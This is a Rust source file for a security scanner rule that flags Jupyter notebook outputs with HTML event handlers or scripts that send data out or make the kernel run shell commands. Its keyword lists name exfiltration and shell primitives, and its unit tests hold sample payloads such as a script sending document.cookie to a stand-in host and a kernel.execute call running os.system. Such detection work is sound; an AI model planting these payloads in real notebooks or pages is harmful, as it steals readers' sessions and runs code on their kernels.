use sealyard_scan::{Finding, rule};

use super::Artifact;
use crate::sink::Sink;

rule! {
    /// # What it does
    /// Reports outputs kept in a notebook that reach out or run commands when they are shown: event handlers in HTML
    /// that fetch, send or build code, and short scripts that send cookies or storage, or give the kernel commands of
    /// a shell.
    ///
    /// # Why it matters
    /// The page that shows a trusted notebook runs its outputs with the reader's session, and through it the kernel.
    /// Scripts of plotting libraries are no news.
    ///
    /// # What to do
    /// Clear the notebook's outputs before you open it (`jupyter nbconvert --clear-output`).
    id: "notebook-active-output",
    name: "Output of a notebook that reaches out",
    severity: Medium,
    summary: "An output kept in a notebook sends data or runs code when it is shown.",
    help: "Clear the outputs before you open the notebook.",
    references: ["https://jupyter-notebook.readthedocs.io/en/stable/security.html"],
}

/// What a handler of an event does in order to reach out or to hide.
const REACHING: &[&str] = &[
    "fetch(",
    "XMLHttpRequest",
    "sendBeacon(",
    "WebSocket(",
    "document.cookie",
    "localStorage",
    "eval(",
    "atob(",
    "import(",
    "Function(",
    "kernel.execute(",
];
/// What is sent, ways to send it, and what the kernel is made to run.
const KEPT: &[&str] = &["document.cookie", "localStorage", "sessionStorage"];
const SENT: &[&str] = &["fetch(", "XMLHttpRequest", "sendBeacon(", "WebSocket(", "new Image("];
const SHELL: &[&str] =
    &["os.system", "subprocess", "os.popen", "import os", "import socket", "%%bash", "get_ipython().system"];
/// Handlers that are looked at, and how far around their names.
const MAX_HANDLERS: usize = 10_000;
const AROUND: usize = 2048;
/// Longer scripts are libraries.
const MAX_SCRIPT: usize = 16 << 10;

pub(super) fn check(output: &Artifact<'_>, sink: &mut Sink) {
    let text = output.text;
    let what = if output.is_markup {
        let scripts = text.split("<script").skip(1).filter_map(|script| script.split("</script").next());
        handler(text).or_else(|| scripts.into_iter().find_map(script))
    } else {
        script(text)
    };
    if let Some(what) = what {
        let message = format!("the output of cell {} {what}", output.cell);
        sink.push(Finding::new(&METADATA, sink.location(), message));
    }
}

/// A handler of an event that reaches out.
fn handler(text: &str) -> Option<String> {
    let mut seen = 0;
    for (place, _) in text.match_indices("on") {
        let start = text.floor_char_boundary(place.saturating_sub(AROUND));
        let before = text.get(start..place).unwrap_or_default();
        let rest = text.get(place..text.floor_char_boundary(place + AROUND)).unwrap_or_default();
        let end = rest.find(|letter: char| !letter.is_ascii_alphabetic()).unwrap_or(rest.len());
        let (name, behind) = rest.split_at(end);
        let Some(value) = behind.trim_start().strip_prefix('=').map(str::trim_start) else { continue };
        seen += 1;
        if seen > MAX_HANDLERS {
            return Some("has more handlers than are looked at".to_owned());
        }
        // An attribute stands behind a space or a value, in a tag.
        let is_attribute = before.ends_with(|letter: char| letter.is_whitespace() || "/\"'".contains(letter))
            && before.rfind('<') > before.rfind('>');
        let value = match value.chars().next() {
            Some(quote @ ('"' | '\'')) => value.get(1..).and_then(|value| value.split(quote).next()),
            _ => value.split(['>', ' ']).next(),
        };
        let value = value.unwrap_or_default();
        if is_attribute
            && name.len() > 3
            && let Some(mark) = REACHING.iter().find(|mark| value.contains(*mark))
        {
            return Some(format!("has a handler {name} with {mark}"));
        }
    }
    None
}

/// A script that sends what the browser keeps, or has the kernel run a shell.
fn script(text: &str) -> Option<String> {
    let any = |marks: &[&'static str]| marks.iter().find(|mark| text.contains(**mark)).copied();
    if text.len() > MAX_SCRIPT {
        return None;
    }
    if let (Some(kept), Some(sent)) = (any(KEPT), any(SENT)) {
        return Some(format!("has a script with {kept} and {sent}"));
    }
    let shell = any(SHELL).filter(|_| text.contains("kernel.execute(") || text.contains("requestExecute("));
    shell.map(|shell| format!("has a script that gives the kernel {shell}"))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_flood_of_handlers_ends() {
        let count = |handlers| {
            let mut sink = Sink::new("a.ipynb");
            check(&Artifact { cell: 1, is_markup: true, text: &"<p onclick=x>".repeat(handlers) }, &mut sink);
            sink.findings.len()
        };
        assert_eq!((count(MAX_HANDLERS), count(MAX_HANDLERS + 1)), (0, 1));
    }

    #[test]
    fn only_what_reaches_out_is_found() {
        for (text, is_markup, count) in [
            ("<img src=x onerror=\"fetch('http://x.example/')\">", true, 1),
            ("<svg/onload=eval(atob('aWQ='))>", true, 1),
            ("<div>a</div><script>fetch('http://x.example/?' + document.cookie)</script>", true, 1),
            ("IPython.notebook.kernel.execute('import os; os.system(1)')", false, 1),
            ("<button class='colab' onclick=\"convertToInteractive('df-1')\">x</button>", true, 0),
            ("<p>onerror=\"fetch('x')\" is written like this</p>", true, 0),
            ("<script>fetch('https://x.example/data.json').then(draw)</script>", true, 0),
            ("<script>script.onload = function() { fetch('x') }</script>", true, 0),
            ("cell.notebook.kernel.execute('import bokeh.io.notebook')", false, 0),
        ] {
            let mut sink = Sink::new("a.ipynb");
            check(&Artifact { cell: 1, is_markup, text }, &mut sink);
            assert_eq!(sink.findings.len(), count, "{text}");
        }
    }
}
